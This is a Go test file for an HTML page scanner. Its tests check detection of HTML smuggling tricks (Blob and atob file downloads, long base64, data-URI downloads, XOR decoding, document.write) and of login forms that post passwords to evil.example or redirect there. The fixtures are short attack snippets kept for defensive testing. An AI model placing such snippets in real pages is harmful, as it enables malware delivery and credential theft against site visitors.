package document

import (
	"slices"
	"strings"
	"testing"
	"testing/iotest"

	"io"
)

func page(s string) *Info {
	var p Page
	io.Copy(&p, iotest.OneByteReader(strings.NewReader(s)))
	return p.Info()
}

func TestPageSmuggling(t *testing.T) {
	blob := strings.Repeat("QUJD", 700)
	for name, c := range map[string]struct{ page, want string }{
		"text":                 {"<html><body>資料をお送りします。</body></html>", ""},
		"blob and link":        {`<script>var a=document.createElement("a");a.href=URL.createObjectURL(new Blob([atob("QUJD")]));a.download="a.iso"</script>`, "build decode"},
		"capitals":             {`<SCRIPT>X=ATOB("");NEW BLOB([X])</SCRIPT>`, "build decode"},
		"long base64":          {`<script>x="` + blob + `"</script>`, "decode"},
		"base64 in lines":      {`<script>x="` + blob[:1000] + "\r\n" + blob[1000:] + `"</script>`, "decode"},
		"image of the page":    {`<img src="data:image/png;base64,` + blob + `">`, ""},
		"font of the page":     {`<style>@font-face{src:url(data:font/woff2;base64,` + blob + `)}</style>`, ""},
		"drawing of the page":  {`<img src="data:image/svg+xml;base64,` + blob + `">`, "decode"},
		"other data":           {`<a href="data:application/zip;base64,` + blob + `" download="a.zip">`, "build decode"},
		"characters":           {`for(;;)s+=String.fromCharCode(c.charCodeAt(i)^7)`, "codes"},
		"write":                {`<script>document.write(unescape('%3c'))</script>`, "write"},
		"link to a file":       {`<a href="https://www.aoba.example/a.pdf" download>`, ""},
		"link that says so":    {`<a title="download" href="#">download</a>`, ""},
		"link without address": {`<a download="a.zip" id=x>`, "build"},
	} {
		got := slices.Sorted(slices.Values(page(c.page).Smuggling))
		if !slices.Equal(got, strings.Fields(c.want)) {
			t.Errorf("%s: %v, want %q", name, got, c.want)
		}
	}
}

func TestPageForms(t *testing.T) {
	for name, c := range map[string]struct {
		page    string
		logins  []string
		refresh []External
	}{
		"login elsewhere": {`<form method=post action="https://evil.example/a?b&amp;c"><input name=u><input type='password' name=p></form>`, []string{"https://evil.example/a?b&c"}, nil},
		"login here":      {`<FORM><INPUT TYPE=PASSWORD></FORM>`, []string{""}, nil},
		"no form":         {`<input type="password">`, []string{""}, nil},
		"search":          {`<form action="https://www.aoba.example/"><input type=text></form><p>type=password</p>`, nil, nil},
		"two forms":       {`<form action="https://a.example/"></form><form action="https://b.example/"><input type=password>`, []string{"https://b.example/"}, nil},
		"leads elsewhere": {`<meta http-equiv="Refresh" content="0;URL='https://evil.example/'">`, nil, []External{{"refresh", "https://evil.example/"}}},
		"reads again":     {`<meta http-equiv=refresh content=30>`, nil, nil},
		"charset":         {`<meta http-equiv="Content-Type" content="text/html; charset=utf-8">`, nil, nil},
		"not closed":      {`<form action=https://evil.example/><input type=password`, nil, nil},
	} {
		info := page(c.page + strings.Repeat(" ", 100))
		if !slices.Equal(info.Logins, c.logins) || !slices.Equal(info.Links, c.refresh) {
			t.Errorf("%s: %q %v", name, info.Logins, info.Links)
		}
	}
}

func FuzzPage(f *testing.F) {
	f.Add("<form action=x><input type=password><a download href=data:x><meta http-equiv=refresh content='0;url=http://x'>", 3)
	f.Add("data:image/png;base64,AAAA atob( <", 1)
	f.Fuzz(func(t *testing.T, s string, cut int) {
		whole := page(s)
		var p Page
		cut = min(max(cut, 0), len(s))
		p.Write([]byte(s[:cut]))
		p.Write([]byte(s[cut:]))
		if in := p.Info(); !slices.Equal(in.Smuggling, whole.Smuggling) && len(in.Smuggling) != len(whole.Smuggling) || !slices.Equal(in.Logins, whole.Logins) {
			t.Errorf("cut at %d: %+v, whole: %+v", cut, in, whole)
		}
	})
}

func BenchmarkPage(b *testing.B) {
	s := []byte(strings.Repeat(`<tr><td class="a"><a href="https://www.aoba.example/1">見積書</a></td><td>1,024</td></tr>`+"\n", 600))
	b.SetBytes(int64(len(s)))
	b.ReportAllocs()
	for b.Loop() {
		var p Page
		p.Write(s)
		p.Info()
	}
}

func BenchmarkPageOfBrackets(b *testing.B) {
	s := []byte(strings.Repeat("<a", 500_000))
	b.SetBytes(int64(len(s)))
	for b.Loop() {
		var p Page
		p.Write(s)
	}
}
